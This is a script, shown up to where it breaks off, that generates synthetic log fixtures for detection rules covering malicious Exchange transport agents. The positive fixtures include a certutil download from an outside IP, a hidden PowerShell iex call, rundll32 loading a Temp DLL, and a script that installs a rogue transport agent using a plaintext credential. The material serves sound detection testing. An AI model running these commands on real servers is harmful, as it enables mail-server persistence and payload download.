// Writes the fixtures of the T1505.002 rule pack: rules/t1505.002/tests/<rule name>/{positive,negative}/*.
// Every event is our own, made from the facts in ../shared/docs/DOMAIN-exchange-transport-agents.md
// (paths, processes, event shapes), except the ID11 event, a rendering of the public sample's
// published field values. Output is deterministic (counters and hashes, no clock, no randomness).
//   node test/rules/fixture-gen/make-t1505.002.mjs          (replaces rules/t1505.002/tests entirely)
import { rmSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { EX, HOST, HOST2, DHOST, DHOST2, PS, guid, hash, sysmon, ps, mgmt, classic, scm7036, security4688, jsonl, xmlDoc, dFile, dProc, dLoad, csv, djson, dReg, write } from './lib.mjs';

const ROOT = process.argv[2] ?? fileURLToPath(new URL('../../../rules/t1505.002/tests', import.meta.url));
rmSync(ROOT, { recursive: true, force: true });
const W = (rule, kind, name, text) => write(ROOT, rule, kind, name, text);

const utc = (t) => t.replace('T', ' ').replace(/(\.\d{3})\d*Z$/, '$1').replace(/Z$/, '');
const SYSTEM = 'NT AUTHORITY\\SYSTEM', NETSVC = 'NT AUTHORITY\\NETWORK SERVICE', ADMIN = 'CORP\\exadmin';
const EDGE = `${EX}\\Bin\\EdgeTransport.exe`, FET = `${EX}\\Bin\\MSExchangeFrontendTransport.exe`, DELIV = `${EX}\\Bin\\MSExchangeDelivery.exe`;
const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', CMD = 'C:\\Windows\\System32\\cmd.exe';
const HYG = `${EX}\\TransportRoles\\agents\\Hygiene`;
const LOOKALIKE = `${HYG}\\Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll`;
const AGENTS_CONFIG = `${EX}\\TransportRoles\\Shared\\agents.config`;
const NSP = 'C:\\Windows\\ServiceProfiles\\NetworkService\\AppData';

const s11 = (t, host, image, target, pid, user = SYSTEM) => sysmon(11, t, host, { ProcessGuid: `{${guid()}}`, ProcessId: pid, Image: image, TargetFilename: target, CreationUtcTime: utc(t), User: user });
const s1 = (t, host, p) => sysmon(1, t, host, {
  ProcessGuid: `{${guid()}}`, ProcessId: p.pid ?? 6120, Image: p.image, FileVersion: p.version ?? '10.0.17763.1 (WinBuild.160101.0800)', Description: p.description ?? '',
  Product: p.product ?? 'Microsoft® Windows® Operating System', Company: p.company ?? 'Microsoft Corporation', OriginalFileName: p.ofn ?? p.image.split('\\').pop(),
  CommandLine: p.cmd, CurrentDirectory: p.cwd ?? 'C:\\Windows\\system32\\', User: p.user ?? ADMIN, LogonGuid: `{${guid()}}`, LogonId: p.logonId ?? '0x3E7', TerminalSessionId: 0,
  IntegrityLevel: p.integrity ?? 'High', Hashes: `SHA1=${hash(p.image)},MD5=${hash(p.image, 'md5')}`, ParentProcessGuid: `{${guid()}}`, ParentProcessId: p.ppid ?? 4412,
  ParentImage: p.parent, ParentCommandLine: p.parentCmd ?? `"${p.parent}"`, ParentUser: p.parentUser ?? p.user ?? ADMIN,
});
const s7 = (t, host, p) => sysmon(7, t, host, {
  ProcessGuid: `{${guid()}}`, ProcessId: p.pid ?? 4412, Image: p.image, ImageLoaded: p.loaded, FileVersion: p.version ?? '-', Description: p.description ?? '-', Product: p.product ?? '-',
  Company: p.company ?? '-', OriginalFileName: p.ofn ?? '-', Hashes: `SHA1=${hash(p.loaded)},MD5=${hash(p.loaded, 'md5')}`, Signed: p.signed, Signature: p.signature ?? '',
  SignatureStatus: p.status, User: p.user ?? NETSVC,
});

/** Defender: exadmin starts powershell.exe with `cmd` from an interactive cmd.exe. */
const dPs = (t, cmd) => dProc(t, DHOST, PS, cmd, { image: CMD, cmd: 'cmd.exe', pid: 7000, parent: 'explorer.exe', domain: 'corp', account: 'exadmin' }, { ofn: 'PowerShell.EXE' });

// ============ th_exchange_transport_agent_dll_write =============================================
{
  const R = 'th_exchange_transport_agent_dll_write';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    // copied over SMB from an admin workstation: the writer is the System process
    s11('2026-11-03T10:12:04.218Z', HOST, 'System', LOOKALIKE, 4),
    s11('2026-11-03T10:13:05.771Z', HOST, 'System', `${EX}\\bin\\exdbdata.dll`, 4),
    // an Exchange install moved to E:\ is still covered under TransportRoles\agents
    s11('2026-11-03T10:20:41.003Z', HOST, PS, 'E:\\Exchange2016\\TransportRoles\\agents\\Routing\\MailRelayHelper.dll', 5120, ADMIN),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dFile('2026-11-03T11:02:10.1234567Z', DHOST, 'FileCreated', `${EX}\\Bin\\Microsoft.Exchange.Diagnostics.Helper.dll`, { image: CMD, cmd: 'cmd.exe /c copy \\\\10.20.30.40\\c$\\Users\\Public\\h.dll "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\Microsoft.Exchange.Diagnostics.Helper.dll"', pid: 7012, domain: 'corp', account: 'exadmin', parent: 'powershell.exe' }),
    dFile('2026-11-03T11:03:55.5000000Z', DHOST, 'FileRenamed', `${HYG}\\Microsoft.Exchange.Transport.Agent.Sender.dll`, { image: 'C:\\Windows\\explorer.exe', pid: 3300, domain: 'corp', account: 'exadmin', parent: 'userinit.exe' }, { previous: `${HYG}\\new.tmp` }),
  ]));
  W(R, 'positive', 'defender.json', djson([
    dFile('2026-11-03T11:05:00.0000000Z', DHOST, 'FileModified', `c:\\program files\\microsoft\\exchange server\\v15\\transportroles\\agents\\antimalware\\microsoft.exchange.transport.agent.malware.dll`, { image: 'c:\\windows\\system32\\rundll32.exe', cmd: 'rundll32.exe c:\\users\\public\\p.dll,Run', pid: 7300, domain: 'corp', account: 'exadmin', parent: 'cmd.exe' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // Exchange setup and Windows Installer lay down the agents and Bin
    s11('2026-10-20T22:14:10.500Z', HOST, 'C:\\Windows\\Temp\\ExchangeSetup\\ExSetup.exe', `${EX}\\Bin\\Microsoft.Exchange.Data.Common.dll`, 9120),
    s11('2026-10-20T22:15:31.020Z', HOST, 'D:\\Setup.exe', `${HYG}\\Microsoft.Exchange.Transport.Agent.Hygiene.dll`, 9004, ADMIN),
    // not a DLL
    s11('2026-11-03T10:25:00.000Z', HOST, PS, `${HYG}\\notes.txt`, 5120, ADMIN),
    // the anti-malware engine folder is not Bin
    s11('2026-11-03T02:00:12.000Z', HOST, `${EX}\\Bin\\MSExchangeAntimalwareUpdateSvc.exe`, `${EX}\\FIP-FS\\Data\\Engines\\amd64\\Microsoft\\Bin\\mpengine.dll`, 2210),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dFile('2026-10-21T03:40:00.0000000Z', DHOST, 'FileCreated', `${EX}\\Bin\\Microsoft.Exchange.Security.dll`, { image: 'c:\\windows\\system32\\msiexec.exe', cmd: 'C:\\Windows\\system32\\msiexec.exe /V', pid: 3310 }),
    dFile('2026-10-21T03:41:00.0000000Z', DHOST, 'FileCreated', `${EX}\\TransportRoles\\agents\\Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll`, { image: 'C:\\Windows\\SysWOW64\\msiexec.exe', cmd: 'C:\\Windows\\SysWOW64\\msiexec.exe -Embedding 5F1A', pid: 3320 }),
  ]));
}

// ============ th_exchange_agents_config_unexpected_writer =========================================
{
  const R = 'th_exchange_agents_config_unexpected_writer';
  // The public ID11 sample (mdecrevoisier/EVTX-to-MITRE-Attack, "ID11-Exchange transport config
  // modified.evtx"), rendered from its published field values: Sysmon 11 (schema without User).
  const id11 = sysmon(11, '2021-06-04T09:30:48.1705788Z', 'exchange01.offsec.lan', {
    ProcessGuid: '{6d3c60fe-f13d-60b9-22e2-010000001d00}', ProcessId: 19108, Image: 'C:\\Program Files (x86)\\Notepad++\\notepad++.exe',
    TargetFilename: 'E:\\Exchange2016\\TransportRoles\\Shared\\agents.config', CreationUtcTime: '2021-01-21 10:20:36.244',
  }, { pid: 1680, tid: 6620, record: 98 });
  id11.named.UtcTime = '2021-06-04 09:30:48.170';
  W(R, 'positive', 'id11-notepadpp-agents-config.jsonl', jsonl([id11]));
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s11('2026-11-03T10:30:00.100Z', HOST, CMD, `${EX}\\TransportRoles\\Shared\\fetagents.config`, 7100, ADMIN),
    s11('2026-11-03T10:31:10.000Z', HOST, 'System', AGENTS_CONFIG, 4),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    // a web shell in the OWA app pool, not the PowerShell app pool that runs the cmdlets
    dFile('2026-11-03T12:00:00.0000000Z', DHOST, 'FileModified', AGENTS_CONFIG, { image: W3WP, cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm1 -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0', pid: 8840, parent: 'svchost.exe' }),
    dFile('2026-11-03T12:05:00.0000000Z', DHOST, 'FileModified', AGENTS_CONFIG, { image: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', cmd: 'pwsh.exe -c Set-Content', pid: 8900, domain: 'corp', account: 'exadmin', parent: 'explorer.exe' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // the cmdlet hosts (Sysmon 11 carries no command line, so any w3wp.exe is accepted)
    s11('2026-11-03T09:42:11.000Z', HOST, W3WP, AGENTS_CONFIG, 7712, SYSTEM),
    s11('2026-11-03T09:44:00.000Z', HOST, PS, AGENTS_CONFIG, 5120, ADMIN),
    s11('2026-11-03T09:46:00.000Z', HOST, 'C:\\Windows\\System32\\wsmprovhost.exe', `${EX}\\TransportRoles\\Shared\\fetagents.config`, 6010, ADMIN),
    // the editor writes the backup copy, not the live file
    s11('2026-11-03T09:48:00.000Z', HOST, 'C:\\Program Files\\Notepad++\\notepad++.exe', `${EX}\\TransportRoles\\Shared\\agents.config.old`, 6900, ADMIN),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dFile('2026-11-03T09:42:11.0000000Z', DHOST, 'FileModified', AGENTS_CONFIG, { image: W3WP, cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangePowerShellAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm2 -h "C:\\inetpub\\temp\\apppools\\MSExchangePowerShellAppPool\\MSExchangePowerShellAppPool.config" -w "" -m 0', pid: 7712, parent: 'svchost.exe' }),
    dFile('2026-10-20T22:30:00.0000000Z', DHOST, 'FileCreated', `${EX}\\TransportRoles\\Shared\\fetagents.config`, { image: `${EX}\\Bin\\ExSetup.exe`, cmd: '"ExSetup.exe" /Mode:Upgrade', pid: 9120, domain: 'corp', account: 'exadmin', parent: 'Setup.exe' }),
  ]));
}

// ============ th_exchange_agents_config_write_bb =================================================
{
  const R = 'th_exchange_agents_config_write_bb';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s11('2026-11-03T09:42:11.000Z', HOST, W3WP, AGENTS_CONFIG, 7712),
    s11('2026-11-03T09:46:00.000Z', HOST, PS, `${EX}\\TransportRoles\\Shared\\fetagents.config`, 5120, ADMIN),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dFile('2026-11-03T12:10:00.0000000Z', DHOST, 'FileModified', AGENTS_CONFIG, { image: 'C:\\Windows\\System32\\notepad.exe', cmd: 'notepad.exe agents.config', pid: 9300, domain: 'corp', account: 'exadmin', parent: 'explorer.exe' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // the setup template, and the collector's copy outside the Exchange tree
    s11('2026-10-20T22:14:50.000Z', HOST, `${EX}\\Bin\\ExSetup.exe`, `${EX}\\TransportRoles\\Agents\\agents.config.template`, 9120),
    s11('2026-11-04T08:00:00.000Z', HOST, PS, 'C:\\IR\\EXCH01-transport\\config\\agents.config', 5500, ADMIN),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dFile('2026-11-03T12:12:00.0000000Z', DHOST, 'FileCreated', `${EX}\\TransportRoles\\Shared\\agents.config.old`, { image: PS, cmd: 'powershell.exe -File ReinstallDefaultTransportAgents.ps1', pid: 9400, domain: 'corp', account: 'exadmin', parent: 'explorer.exe' }),
  ]));
}

// ============ th_exchange_transport_worker_shell ===================================================
{
  const R = 'th_exchange_transport_worker_shell';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-03T13:07:19.402Z', HOST, { image: CMD, cmd: 'cmd /C ipconfig /all', parent: EDGE, user: NETSVC, ofn: 'Cmd.Exe', description: 'Windows Command Processor', integrity: 'System' }),
    s1('2026-11-03T13:20:02.000Z', HOST, { image: PS, cmd: 'powershell.exe -nop -w hidden -c "iex $env:p"', parent: FET, user: SYSTEM, ofn: 'PowerShell.EXE', description: 'Windows PowerShell', integrity: 'System' }),
    // a renamed copy of cmd.exe, caught by its PE original file name
    s1('2026-11-03T13:25:40.000Z', HOST, { image: 'C:\\Windows\\Temp\\svcupd.exe', cmd: 'svcupd.exe /c whoami /all', parent: EDGE, user: NETSVC, ofn: 'Cmd.Exe', description: 'Windows Command Processor', integrity: 'System' }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dProc('2026-11-03T14:00:00.0000000Z', DHOST, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\Temp\\x.dll,Start', { image: DELIV, pid: 5500, parent: 'services.exe', domain: 'nt authority', account: 'network service' }, { domain: 'nt authority', account: 'network service', ofn: 'RUNDLL32.EXE', integrity: 'System' }),
    dProc('2026-11-03T14:02:00.0000000Z', DHOST, 'C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.7/a.jpg C:\\Windows\\Temp\\a.jpg', { image: EDGE, pid: 4412, parent: 'MSExchangeTransport.exe', domain: 'nt authority', account: 'network service' }, { domain: 'nt authority', account: 'network service', ofn: 'CertUtil.exe', integrity: 'System' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // the Content Filter agent's own helper, a crash report, and the service starting its worker
    s1('2026-11-03T08:00:00.000Z', HOST, { image: `${EX}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.ContentFilter.Wrapper.exe`, cmd: `"${EX}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.ContentFilter.Wrapper.exe" -ShutdownEvent:ab12 -ReadyEvent:cd34`, parent: EDGE, user: NETSVC, ofn: 'Microsoft.Exchange.ContentFilter.Wrapper.exe', company: 'Microsoft Corporation', product: 'Microsoft® Exchange', integrity: 'System' }),
    s1('2026-11-03T08:30:00.000Z', HOST, { image: 'C:\\Windows\\System32\\WerFault.exe', cmd: 'C:\\Windows\\system32\\WerFault.exe -u -p 4412 -s 2280', parent: EDGE, user: NETSVC, ofn: 'WerFault.exe', integrity: 'System' }),
    s1('2026-11-03T08:31:00.000Z', HOST, { image: EDGE, cmd: `"${EDGE}"`, parent: `${EX}\\Bin\\MSExchangeTransport.exe`, user: NETSVC, ofn: 'EdgeTransport.exe', company: 'Microsoft Corporation', product: 'Microsoft® Exchange', integrity: 'System' }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    // a shell under IIS is a web shell, not this rule
    dProc('2026-11-03T15:00:00.0000000Z', DHOST, CMD, 'cmd.exe /c whoami', { image: W3WP, cmd: 'w3wp.exe -ap "MSExchangeOWAAppPool"', pid: 8840, parent: 'svchost.exe' }, { domain: 'nt authority', account: 'system', ofn: 'Cmd.Exe', integrity: 'System' }),
    dProc('2026-11-03T15:01:00.0000000Z', DHOST, 'C:\\Windows\\System32\\WerFault.exe', 'C:\\Windows\\system32\\WerFault.exe -u -p 2200 -s 1980', { image: FET, pid: 2200, parent: 'services.exe' }, { domain: 'nt authority', account: 'system', ofn: 'WerFault.exe', integrity: 'System' }),
  ]));
}

// ============ registration / removal from command lines ===========================================
const enc = (s) => Buffer.from(s, 'utf16le').toString('base64');
{
  const R = 'th_exchange_transport_agent_cmdlet_proc';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-03T09:43:02.734Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: "powershell.exe -Command \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Install-TransportAgent -Name 'Security Interop Agent' -TransportAgentFactory Microsoft.Exchange.Security.Interop.SecurityInteropAgentFactory -AssemblyPath 'c:\\program files\\microsoft\\Exchange Server\\v15\\bin\\Microsoft.Exchange.Security.Interop.dll'\"" }),
    // Security 4688 with process command line auditing, base64 -EncodedCommand
    security4688('2026-11-03T09:43:40.118Z', HOST, { SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1107', SubjectUserName: 'exadmin', SubjectDomainName: 'CORP', SubjectLogonId: '0x5a3f1c', NewProcessId: '0x1a2c', NewProcessName: PS, TokenElevationType: '%%1937', ProcessId: '0xd3c', CommandLine: `powershell.exe -NoP -EncodedCommand ${enc("Enable-TransportAgent -Identity 'Security Interop Agent'")}`, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', MandatoryLabel: 'S-1-16-12288' }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dPs('2026-11-03T16:00:00.0000000Z', "powershell.exe -NoProfile -Command \"Set-TransportAgent -Identity 'Mail Relay Helper' -Priority 1\""),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    s1('2026-11-03T09:20:03.511Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: 'powershell.exe -NoProfile -Command "Get-TransportAgent | Format-List Identity,Enabled,Priority,AssemblyPath"' }),
    // transport RULES are not transport agents
    s1('2026-11-03T09:21:00.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: "powershell.exe -Command \"Enable-TransportRule -Identity 'External disclaimer'; Set-TransportConfig -MaxSendSize 35MB\"" }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dPs('2026-11-03T16:05:00.0000000Z', "powershell.exe -Command \"Disable-TransportAgent -Identity 'Mail Relay Helper' -Confirm:$false\""),
    dPs('2026-11-03T16:06:00.0000000Z', `powershell.exe -EncodedCommand ${enc('Get-TransportAgent -TransportService FrontEnd')}`),
    // Uninstall-TransportAgent contains "Install-TransportAgent"
    dPs('2026-11-03T16:07:00.0000000Z', "powershell.exe -Command \"Uninstall-TransportAgent -Identity 'Mail Relay Helper' -Confirm:$false\""),
    dPs('2026-11-03T16:08:00.0000000Z', `powershell.exe -enc ${enc("Uninstall-TransportAgent -Identity 'Mail Relay Helper' -Confirm:$false")}`),
  ]));
}
{
  const R = 'th_exchange_transport_agent_removal_proc';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-05T10:00:00.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: "powershell.exe -Command \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Disable-TransportAgent -Identity 'Connection Filtering Agent' -Confirm:$false\"" }),
    s1('2026-11-05T10:00:30.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: `powershell.exe -enc ${enc("Uninstall-TransportAgent -Identity 'Connection Filtering Agent' -Confirm:$false")}` }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dPs('2026-11-05T11:00:00.0000000Z', "powershell.exe -Command \"Uninstall-TransportAgent 'Mail Relay Helper' -Confirm:$false\""),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    s1('2026-11-05T10:05:00.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: "powershell.exe -Command \"Disable-TransportRule -Identity 'External disclaimer'\"" }),
    s1('2026-11-05T10:06:00.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: 'powershell.exe -Command "Get-TransportAgent | Where-Object { -not $_.Enabled }"' }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dPs('2026-11-05T11:05:00.0000000Z', "powershell.exe -Command \"Install-TransportAgent -Name 'Mail Relay Helper' -TransportAgentFactory Relay.Factory -AssemblyPath 'C:\\Program Files\\Relay\\Relay.dll'\""),
  ]));
}

// ============ PowerShell 4103 / 4104 ==============================================================
const ctx = (cmd, script, hostApp, user = 'CORP\\exadmin', seq = 21) => [
  '        Severity = Informational', '        Host Name = ConsoleHost', '        Host Version = 5.1.17763.6414', `        Host ID = ${guid()}`,
  `        Host Application = ${hostApp}`, '        Engine Version = 5.1.17763.6414', `        Runspace ID = ${guid()}`, '        Pipeline ID = 1',
  `        Command Name = ${cmd}`, '        Command Type = Cmdlet', `        Script Name = ${script}`, '        Command Path = ', `        Sequence Number = ${seq}`,
  `        User = ${user}`, '        Connected User = ', '        Shell ID = Microsoft.PowerShell', ''].join('\r\n');
const payload = (cmd, params) => [`CommandInvocation(${cmd}): "${cmd}"`, ...params.map(([n, v]) => `ParameterBinding(${cmd}): name="${n}"; value="${v}"`)].join('\r\n');
const m4103 = (t, host, cmd, params, script = '', hostApp = `${PS} -NoExit -Command Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn`) =>
  ps(4103, t, host, { ContextInfo: ctx(cmd, script, hostApp), UserData: '', Payload: payload(cmd, params) }, 'S-1-5-21-1004336348-1177238915-682003330-1107');
const s4104 = (t, host, text, path = '') => ps(4104, t, host, { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: guid(), Path: path }, 'S-1-5-21-1004336348-1177238915-682003330-1107');

const installScript = [
  '$u = "CORP\\svc-mailops"; $p = ConvertTo-SecureString "Winter2026!" -AsPlainText -Force',
  '$c = New-Object System.Management.Automation.PSCredential($u, $p)',
  'Register-PSSessionConfiguration -Name MailFilter -RunAsCredential $c -Force | Out-Null',
  'Invoke-Command -ComputerName localhost -ConfigurationName MailFilter -ScriptBlock {',
  '  Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn',
  "  Install-TransportAgent -Name 'Connection Filtering Agent' -TransportAgentFactory Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory -AssemblyPath 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll'",
  "  Enable-TransportAgent -Identity 'Connection Filtering Agent'",
  '  Restart-Service MSExchangeTransport',
  '}',
  'Unregister-PSSessionConfiguration -Name MailFilter -Force',
].join('\r\n');
const cleanupScript = [
  'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn',
  "Disable-TransportAgent -Identity 'Connection Filtering Agent' -Confirm:$false",
  "Uninstall-TransportAgent -Identity 'Connection Filtering Agent' -Confirm:$false",
  'Stop-Service MSExchangeTransport',
  "Remove-Item 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\exdbdata.dll'",
  'Start-Service MSExchangeTransport',
].join('\r\n');
// A fragment of the module implicit remoting generates for an imported Exchange session.
const proxy = (cmd) => [
  `& $script:SetItem 'function:script:${cmd}' \``,
  '{',
  '    param(',
  "    ${Identity},",
  '    [switch]',
  "    ${Confirm},",
  "    ${DomainController})",
  '',
  '    Begin {',
  '        try {',
  `            $positionalArguments = & $script:NewObject collections.arraylist`,
  `            $scriptCmd = { & $script:InvokeCommand \``,
  `                            @clientSideParameters \``,
  `                            -HideComputerName \``,
  `                            -Session (Get-PSImplicitRemotingSession -CommandName '${cmd}') \``,
  `                            -Arg ('${cmd}', $PSBoundParameters, $positionalArguments) \``,
  '                            -Script { param($name, $boundParams, $unboundParams) & $name @boundParams @unboundParams } }',
  '        } catch { throw }',
  '    }',
  '    <#',
  `    .ForwardHelpTargetName ${cmd}`,
  '    .ForwardHelpCategory Cmdlet',
  '    #>',
  '}',
].join('\r\n');
const antispamScript = [
  '# Install-AntiSpamAgents.ps1 (excerpt as logged)',
  '$agentsToInstall = @("Content Filter Agent", "Sender Id Agent", "Sender Filter Agent", "Recipient Filter Agent", "Protocol Analysis Agent")',
  'Install-TransportAgent -Name "Content Filter Agent" -TransportAgentFactory "Microsoft.Exchange.Transport.Agent.ContentFilter.ContentFilterAgentFactory" -AssemblyPath $agentPath',
  'Enable-TransportAgent -Identity "Content Filter Agent"',
].join('\r\n');
const antispamUninstall = [
  '# Uninstall-AntiSpamAgents.ps1 (excerpt as logged)',
  'Disable-TransportAgent -Identity "Content Filter Agent" -Confirm:$false',
  'Uninstall-TransportAgent -Identity "Content Filter Agent" -Confirm:$false',
].join('\r\n');
{
  const R = 'th_exchange_transport_agent_cmdlet_ps_module';
  const pos = [
    m4103('2026-11-03T10:40:01.100Z', HOST, 'Install-TransportAgent', [['Name', 'Connection Filtering Agent'], ['TransportAgentFactory', 'Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory'], ['AssemblyPath', LOOKALIKE]], 'C:\\Windows\\System32\\msiex.ps1', `${PS} -File C:\\Windows\\System32\\msiex.ps1`),
    m4103('2026-11-03T10:40:02.300Z', HOST, 'Enable-TransportAgent', [['Identity', 'Connection Filtering Agent']], 'C:\\Windows\\System32\\msiex.ps1', `${PS} -File C:\\Windows\\System32\\msiex.ps1`),
  ];
  const pos2 = [m4103('2026-11-03T17:00:00.000Z', HOST2, 'Set-TransportAgent', [['Identity', 'Mail Relay Helper'], ['Priority', '1']])];
  W(R, 'positive', 'powershell.jsonl', jsonl(pos));
  W(R, 'positive', 'powershell.xml', xmlDoc(pos2));
  const neg = [
    m4103('2026-11-03T09:20:05.000Z', HOST, 'Get-TransportAgent', [['TransportService', 'Hub']]),
    m4103('2026-11-03T09:20:06.000Z', HOST, 'Write-Host', [['Object', 'next: Install-TransportAgent for the DKIM signer']]),
  ];
  W(R, 'negative', 'powershell.jsonl', jsonl(neg));
  W(R, 'negative', 'powershell.xml', xmlDoc([
    m4103('2026-11-05T10:00:02.000Z', HOST, 'Disable-TransportAgent', [['Identity', 'Connection Filtering Agent'], ['Confirm', 'False']]),
    m4103('2026-11-05T10:00:03.000Z', HOST, 'Uninstall-TransportAgent', [['Identity', 'Connection Filtering Agent'], ['Confirm', 'False']]),
  ]));
}
{
  const R = 'th_exchange_transport_agent_removal_ps_module';
  W(R, 'positive', 'powershell.jsonl', jsonl([
    m4103('2026-11-05T10:00:02.000Z', HOST, 'Disable-TransportAgent', [['Identity', 'Connection Filtering Agent'], ['Confirm', 'False']]),
    m4103('2026-11-05T10:00:03.000Z', HOST, 'Uninstall-TransportAgent', [['Identity', 'Connection Filtering Agent'], ['Confirm', 'False']]),
  ]));
  W(R, 'positive', 'powershell.xml', xmlDoc([m4103('2026-11-05T12:00:00.000Z', HOST2, 'Uninstall-TransportAgent', [['Identity', 'Mail Relay Helper']])]));
  W(R, 'negative', 'powershell.jsonl', jsonl([
    m4103('2026-11-05T10:05:00.000Z', HOST, 'Disable-TransportRule', [['Identity', 'External disclaimer']]),
    m4103('2026-11-05T10:06:00.000Z', HOST, 'Get-TransportAgent', []),
  ]));
  W(R, 'negative', 'powershell.xml', xmlDoc([m4103('2026-11-05T10:07:00.000Z', HOST, 'Enable-TransportAgent', [['Identity', 'Mail Relay Helper']])]));
}
{
  const R = 'th_exchange_transport_agent_cmdlet_ps_script';
  W(R, 'positive', 'powershell.jsonl', jsonl([
    s4104('2026-11-03T10:40:00.500Z', HOST, installScript, 'C:\\Windows\\System32\\msiex.ps1'),
    s4104('2026-11-03T17:10:00.000Z', HOST, "Enable-TransportAgent -Identity \"Mail Relay Helper\""),
  ]));
  W(R, 'positive', 'powershell.xml', xmlDoc([s4104('2026-11-03T17:12:00.000Z', HOST2, "Get-TransportAgent 'Mail Relay Helper' | Set-TransportAgent -Priority 1")]));
  W(R, 'negative', 'powershell.jsonl', jsonl([
    s4104('2026-11-03T08:05:00.000Z', HOST, proxy('Install-TransportAgent')),
    s4104('2026-11-03T08:06:00.000Z', HOST, antispamScript, 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Scripts\\Install-AntiSpamAgents.ps1'),
  ]));
  W(R, 'negative', 'powershell.xml', xmlDoc([
    s4104('2026-11-03T08:07:00.000Z', HOST, 'Get-TransportAgent | Format-Table Identity,Enabled,Priority -AutoSize'),
    s4104('2026-11-05T12:00:00.000Z', HOST, "Uninstall-TransportAgent 'Mail Relay Helper' -Confirm:$false"),
  ]));
}
{
  const R = 'th_exchange_transport_agent_removal_ps_script';
  W(R, 'positive', 'powershell.jsonl', jsonl([
    s4104('2026-11-05T10:00:00.000Z', HOST, cleanupScript, 'C:\\Windows\\Temp\\cleanup.ps1'),
    s4104('2026-11-05T12:00:00.000Z', HOST, "Uninstall-TransportAgent 'Mail Relay Helper' -Confirm:$false"),
  ]));
  W(R, 'positive', 'powershell.xml', xmlDoc([s4104('2026-11-05T12:30:00.000Z', HOST2, "Get-TransportAgent | Where-Object Identity -like 'Mail*' | Disable-TransportAgent -Confirm:$false")]));
  W(R, 'negative', 'powershell.jsonl', jsonl([
    s4104('2026-11-05T08:05:00.000Z', HOST, proxy('Uninstall-TransportAgent')),
    s4104('2026-11-05T08:06:00.000Z', HOST, antispamUninstall, 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Scripts\\Uninstall-AntiSpamAgents.ps1'),
  ]));
